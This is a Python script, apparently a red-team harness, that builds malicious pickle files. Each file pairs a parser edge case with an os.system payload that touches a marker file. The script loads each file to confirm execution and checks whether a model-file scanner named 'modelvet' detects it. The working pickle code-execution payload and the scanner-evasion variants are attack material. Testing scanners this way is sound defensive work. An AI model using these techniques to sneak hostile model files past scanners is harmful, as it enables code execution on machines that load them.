import pickle, subprocess, json, os
def payload(name):
    return b"cos\nsystem\n(S'touch /tmp/rt16/pwned_%s'\ntR." % name.encode()
cases = {
 "int_octal_strtol": b"I010\n0",
 "int_nul": b"I1\x00zz\n0",
 "int_ws_tab": b"I\t7\n0",
 "int_vt": b"I\x0b7\n0",
 "int_neg_octal": b"I-010\n0",
 "int_nonascii": "I\u0661\u0662\n0".encode(),
 "long_nul": b"L1\x00zz\n0",
 "long_nonascii": "L\u0661\u0662\n0".encode(),
 "long_nbsp": "L\u00a012\n0".encode(),
 "float_nul": b"F1.5\x00zz\n0",
 "float_plusdot": b"F+.5\n0",
 "float_nan": b"F-nan\n0",
 "float_infinity": b"F+Infinity\n0",
 "float_1e": b"F1.e5\n0",
 "float_nonascii": "F\u0661.5\n0".encode(),
 "get_nul": b"(p1\x00zz\n0g1\x00zz\n0",
 "put_octal": b"(p010\n0g10\n0",
 "put_nonascii": "(p\u0661\n0g1\n0".encode(),
 "put_ws": b"(p\t1\n0g1\t\n0",
 "persid_bin": b"",
}
for tag, pre in cases.items():
    if not pre: continue
    d = pre + payload(tag)
    fn = f"fn_vm_{tag}.pkl"; open(fn,"wb").write(d)
    try: os.remove(f"/tmp/rt16/pwned_{tag}")
    except FileNotFoundError: pass
    r = subprocess.run(["/tmp/rt15/venv/bin/python","-c","import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",fn],capture_output=True,text=True)
    pw = os.path.exists(f"/tmp/rt16/pwned_{tag}")
    s = subprocess.run(["/tmp/review16/modelvet","scan","--format","json",fn],capture_output=True,text=True)
    try:
        j=json.loads(s.stdout); f=j["files"][0]; summ=f"{f['format']} {f.get('max_severity')} "+";".join(x['rule']+'/'+x['severity'] for x in f['findings'])
    except Exception: summ=s.stdout[:200]+s.stderr[:200]
    print(f"{tag:20} pwned={pw} loader_err={r.stderr.strip().splitlines()[-1][:60] if r.stderr.strip() else ''} | mv exit={s.returncode} {summ[:150]}")
